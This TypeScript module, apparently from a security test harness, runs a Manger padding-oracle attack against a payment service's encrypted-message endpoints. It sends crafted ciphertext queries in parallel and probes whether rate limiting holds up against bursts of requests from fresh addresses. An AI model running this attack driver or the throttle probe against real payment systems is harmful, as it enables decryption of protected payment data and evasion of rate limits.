import { type AttackResult, mangerAttack } from './manger-attack.ts';
import { answerText, type Target } from './oracle-target.ts';
import type { CompanyKey } from './payments-to-send.ts';
import type { PayFunction } from './read-answer.ts';
import { unreadableTexts } from './unreadable-texts.ts';

export type Asks = {
  questions: number;
  /** How many of the blocks really began with 0. */
  small: number;
  answers: Set<string>;
  result: AttackResult;
};

const functions: readonly PayFunction[] = ['/makPayment', '/webPay'];
const atOnce = 8;

/** The attack as far as it comes, then blocks of either kind in turns, then all else that fails. */
export async function askAll(
  target: Target,
  key: CompanyKey,
  { attackMost, chosen }: { attackMost: number; chosen: number },
): Promise<Asks> {
  const answers = new Set<string>();
  let [questions, small] = [0, 0];
  const note = async (text: string, asked: PayFunction) => {
    const answer = answerText(await target.ask(text, asked));
    questions += 1;
    answers.add(`${asked}\n${answer}`);
    return answer;
  };
  const noteFactor = (factor: bigint, asked: PayFunction) => {
    if (!target.isBig(factor)) small += 1;
    return note(target.textTimes(factor), asked);
  };
  const ofBig = await noteFactor(target.factor(true), '/makPayment');
  const isBig = async (factor: bigint) => (await noteFactor(factor, '/makPayment')) === ofBig;
  const result = await mangerAttack(target.raw, isBig, attackMost);

  const unreadable = await unreadableTexts(key, target.raw);
  const queue = [
    ...Array.from(
      { length: chosen },
      (_, index) => (asked: PayFunction) => noteFactor(target.factor(index % 4 < 2), asked),
    ),
    ...[...unreadable, ...unreadable].map((text) => (asked: PayFunction) => note(text, asked)),
  ].entries();
  const worker = async () => {
    for (const [index, ask] of queue) await ask(functions[index % 2] ?? '/webPay');
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
  return { questions, small, answers, result };
}

export type Throttled = { oneByOne: number; atOnce: number };

/** How many questions of one address are looked at: one after the other, and all at the same moment. */
export async function throttle(target: Target, most: number, isBig: boolean): Promise<Throttled> {
  const texts = Array.from({ length: most }, () => target.textTimes(target.factor(isBig)));
  const [from, other] = [target.nextAddress(), target.nextAddress()];
  let oneByOne = 0;
  for (const text of texts) {
    if ((await target.askFrom(from, text)).status === 429) break;
    oneByOne += 1;
  }
  const answers = await Promise.all(texts.map((text) => target.askFrom(other, text)));
  return { oneByOne, atOnce: answers.filter(({ status }) => status === 200).length };
}
